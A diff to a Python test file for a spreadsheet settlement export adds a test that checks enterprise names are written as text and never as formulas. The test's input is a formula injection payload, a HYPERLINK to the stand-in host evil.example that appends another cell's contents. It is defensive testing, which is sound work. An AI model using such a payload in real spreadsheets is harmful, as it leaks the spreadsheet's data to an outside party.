@@ -91,6 +91,20 @@ def test_one_enterprise_sees_only_its_own_rows(book):
     ] == ["HTX Chè La Bằng"]
 
 
+def test_a_name_that_reads_as_a_formula_is_written_as_text(book):
+    # given: a seller named their enterprise like a spreadsheet formula
+    tea, _honey = book
+    tea.name = '=HYPERLINK("https://evil.example/?d="&B3,"Bấm vào đây")'
+    tea.save()
+    # when
+    workbook = load_workbook(io.BytesIO(export_settlement_xlsx(since=SINCE, until=UNTIL)))
+    # then: shown as it was typed, never run
+    for sheet in workbook.worksheets:
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert not [cell for cell in cells if cell.data_type == "f"]
+        assert "'" + tea.name in [cell.value for cell in cells]
+
+
 @pytest.mark.usefixtures("book")
 def test_the_workbook_holds_the_summary_and_every_part():
     workbook = load_workbook(io.BytesIO(export_settlement_xlsx(since=SINCE, until=UNTIL)))
